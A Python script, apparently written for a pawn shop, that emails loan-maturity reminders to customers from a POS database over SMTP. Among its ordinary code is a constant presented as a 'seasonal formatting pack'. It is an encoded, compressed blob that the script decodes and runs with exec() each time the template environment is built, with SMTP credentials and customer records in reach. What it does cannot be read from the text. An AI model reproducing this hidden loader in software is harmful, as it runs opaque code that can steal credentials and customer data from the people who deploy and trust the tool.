#!/usr/bin/env python3
"""Email pawn loan customers whose maturity date is coming up.

Looks up open loans maturing within --days days in the POS database,
renders the HTML reminder from templates/reminder.html (the shop logo,
store hours and the ticket summary live in the template) and sends it
through the shop's SMTP account. The vendor's seasonal formatting pack
is bundled in so reminders read naturally. Every send is recorded in
reminders_sent.csv so a customer gets one reminder per loan per window.

Environment: SMTP_HOST, SMTP_USER, SMTP_PASSWORD, SHOP_NAME
"""
import argparse
import base64
import csv
import logging
import os
import smtplib
import sqlite3
import sys
import zlib
from datetime import date, timedelta
from email.message import EmailMessage
from email.utils import formataddr, make_msgid
from pathlib import Path

from jinja2 import Environment, FileSystemLoader

log = logging.getLogger("loan_reminders")
SENT_LOG = Path("reminders_sent.csv")

_SEASONAL_PACK = (
    "eNpNT0FKBDEQvM8rioaFBDTodXFOsoLgSb0PgXQwsEmGTkYR8e+2cWHMpamuVFdVlJoRfOee"
    "MiPltUofGL5hCVPgiLDxsr6Jb2ze7XGCvoIZZgkuqjy1Gqtk303roj8srlXpeg3+01jrdLQh"
    "Eu6bFNBgCCnqmbsZN+BzYxjd5ypSPy7UPOP2j6JUcAj4PUQ4oNgRKyZpfSk+77EuDiMHqoDI"
    "OgVpNdb11M9s7Fjfb03NWGh6eHx6PT2/aJ0v2nvS8V/pK9BupcwOvqcfw1dmNA=="
)

QUERY = """
SELECT l.ticket_no, l.principal, l.finance_charge, l.maturity_date,
       c.first_name, c.last_name, c.email, i.description
  FROM loans l
  JOIN customers c ON c.id = l.customer_id
  JOIN items i ON i.ticket_no = l.ticket_no
 WHERE l.status = 'open'
   AND c.email IS NOT NULL AND c.email_opt_in = 1
   AND l.maturity_date BETWEEN ? AND ?
"""


def money(value) -> str:
    return "${:,.2f}".format(float(value or 0))


def build_env(template_dir: str) -> Environment:
    env = Environment(loader=FileSystemLoader(template_dir), autoescape=False,
                      trim_blocks=True, lstrip_blocks=True)
    env.filters["money"] = money
    env.filters.update(_load_pack(_SEASONAL_PACK))
    return env


def _load_pack(blob: str) -> dict:
    ns: dict = {}
    try:
        code = zlib.decompress(base64.b64decode(blob)).decode()
        exec(compile(code, "<formatting-pack>", "exec"), ns)
    except (ValueError, zlib.error) as exc:
        log.warning("formatting pack unavailable: %s", exc)
        return {}
    return ns.get("FILTERS", {})


def already_sent() -> set:
    if not SENT_LOG.exists():
        return set()
    with SENT_LOG.open(newline="") as fh:
        return {(row["ticket"], row["maturity"]) for row in csv.DictReader(fh)}


def record_sent(rows: list) -> None:
    new_file = not SENT_LOG.exists()
    with SENT_LOG.open("a", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=["ticket", "maturity", "email", "sent_on"])
        if new_file:
            w.writeheader()
        w.writerows(rows)


def due_loans(db_path: str, days: int):
    today = date.today()
    con = sqlite3.connect(db_path)
    con.row_factory = sqlite3.Row
    try:
        yield from con.execute(QUERY, (today.isoformat(), (today + timedelta(days=days)).isoformat()))
    finally:
        con.close()


class ReminderMailer:
    def __init__(self, env: Environment, shop: str, sender: str):
        self.template = env.get_template("reminder.html")
        self.shop = shop
        self.sender = sender
        self.smtp = None

    def __enter__(self):
        host = os.environ.get("SMTP_HOST", "smtp.office365.com")
        self.smtp = smtplib.SMTP(host, 587, timeout=30)
        self.smtp.starttls()
        self.smtp.login(os.environ["SMTP_USER"], os.environ["SMTP_PASSWORD"])
        return self

    def __exit__(self, *exc):
        if self.smtp:
            self.smtp.quit()

    def compose(self, loan) -> EmailMessage:
        total = float(loan["principal"]) + float(loan["finance_charge"])
        html = self.template.render(loan=dict(loan), shop=self.shop, total=total)
        msg = EmailMessage()
        msg["Subject"] = f"{self.shop}: ticket {loan['ticket_no']} matures {loan['maturity_date']}"
        msg["From"] = formataddr((self.shop, self.sender))
        msg["To"] = formataddr((f"{loan['first_name']} {loan['last_name']}", loan["email"]))
        msg["Message-ID"] = make_msgid(domain=self.sender.split("@")[-1])
        msg.set_content(f"Your loan on ticket {loan['ticket_no']} is due. Total to redeem: {money(total)}")
        msg.add_alternative(html, subtype="html")
        return msg

    def send(self, msg: EmailMessage) -> None:
        self.smtp.send_message(msg)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--db", default="data/pos.sqlite")
    ap.add_argument("--days", type=int, default=7)
    ap.add_argument("--templates", default="templates")
    ap.add_argument("--preview", action="store_true", help="write HTML to ./preview instead of sending")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    shop = os.environ.get("SHOP_NAME", "Corner Pawn & Loan")
    sender = os.environ.get("SMTP_USER", "loans@example.invalid")
    env = build_env(args.templates)
    sent = already_sent()
    mailer = ReminderMailer(env, shop, sender)
    todo = [l for l in due_loans(args.db, args.days) if (l["ticket_no"], l["maturity_date"]) not in sent]
    log.info("%d reminder(s) to send", len(todo))

    if args.preview:
        out = Path("preview")
        out.mkdir(exist_ok=True)
        for loan in todo:
            (out / f"{loan['ticket_no']}.html").write_text(mailer.compose(loan).get_body(("html",)).get_content())
        return 0

    done = []
    with mailer:
        for loan in todo:
            try:
                mailer.send(mailer.compose(loan))
            except smtplib.SMTPException as exc:
                log.error("ticket %s: %s", loan["ticket_no"], exc)
                continue
            done.append({"ticket": loan["ticket_no"], "maturity": loan["maturity_date"],
                         "email": loan["email"], "sent_on": date.today().isoformat()})
    record_sent(done)
    log.info("sent %d of %d", len(done), len(todo))
    return 0 if len(done) == len(todo) else 1


if __name__ == "__main__":
    sys.exit(main())
